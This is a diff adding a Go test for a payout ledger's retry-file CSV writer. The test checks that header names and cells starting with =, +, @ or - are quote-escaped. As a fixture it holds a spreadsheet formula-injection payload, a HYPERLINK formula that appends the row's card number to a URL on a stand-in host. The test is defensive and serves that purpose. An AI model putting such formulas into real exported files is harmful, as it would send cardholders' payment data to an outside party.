@@ -181,3 +181,50 @@ func TestWriteAudit(t *testing.T) {
 		t.Errorf("audit:\n%s", buf.String())
 	}
 }
+
+// TestWriteRetryNeutralizesHeaders: the names of a file's extra and
+// informational columns are written to the retry file, which holds clear
+// card numbers; a name such as =HYPERLINK(...&C2) gets the leading quote
+// every other cell gets, so that no spreadsheet turns it into a formula
+// that carries the card number of its row away.
+func TestWriteRetryNeutralizesHeaders(t *testing.T) {
+	ctx := context.Background()
+	rdb := redis.NewClient(&redis.Options{Addr: miniredis.RunT(t).Addr()})
+	t.Cleanup(func() { rdb.Close() })
+	l := ledger.New(rdb)
+	link := `=HYPERLINK("http://x.example/?"&C2,"open")`
+	p := ledger.NewPayout{Line: 2, ExternalID: "PO-2", Amount: money.MustParse("20.00"), Sealed: "sealed-PO-2", Destination: "card 411111******1111",
+		Extra: `[{"key":"@cmd","value":"+7 900 123-45-67"}]`, Info: "-1+1\x1f=1+2"}
+	if _, _, err := l.BeginBatch(ctx, ledger.Batch{ID: "b", File: "f.csv", LoadedAt: time.Now(), Rows: 1, Total: p.Amount, Scale: 2,
+		InfoColumns: []string{link, "+notes"}}); err != nil {
+		t.Fatal(err)
+	}
+	if _, err := l.Register(ctx, "b", []ledger.NewPayout{p}, 2); err != nil {
+		t.Fatal(err)
+	}
+	if err := l.FinishBatch(ctx, "b"); err != nil {
+		t.Fatal(err)
+	}
+	if _, err := l.BeginCreate(ctx, "b", "PO-2", 1); err != nil {
+		t.Fatal(err)
+	}
+	if _, err := l.FinishCreate(ctx, "b", "PO-2", 1, ledger.CreateResult{To: ledger.Created, OrderID: "WD-2", PSPStatus: "Created", OutcomeWindow: time.Hour}); err != nil {
+		t.Fatal(err)
+	}
+	s, err := l.Snapshot(ctx, "b", "PO-2")
+	if err != nil {
+		t.Fatal(err)
+	}
+	if _, err := l.RecordOutcome(ctx, s, 1, ledger.OutcomeAnswer{Verdict: ledger.VerdictFailed, PSPStatus: "Done", Reason: "=card blocked", HTTPStatus: 200}); err != nil {
+		t.Fatal(err)
+	}
+	var buf bytes.Buffer
+	if _, err := WriteRetry(ctx, l, "b", &buf, RetryOptions{Keys: fakeKeys{}, IncludeFinal: true}); err != nil {
+		t.Fatal(err)
+	}
+	want := `externalId,amount,cardNumber,telecomOperator,'@cmd,"'=HYPERLINK(""http://x.example/?""&C2,""open"")",'+notes,reason` + "\n" +
+		"PO-2-R1,20.00,4111111111111111,,+7 900 123-45-67,-1+1,'=1+2,'=card blocked\n"
+	if buf.String() != want {
+		t.Errorf("wrote:\n%s\nwant:\n%s", buf.String(), want)
+	}
+}
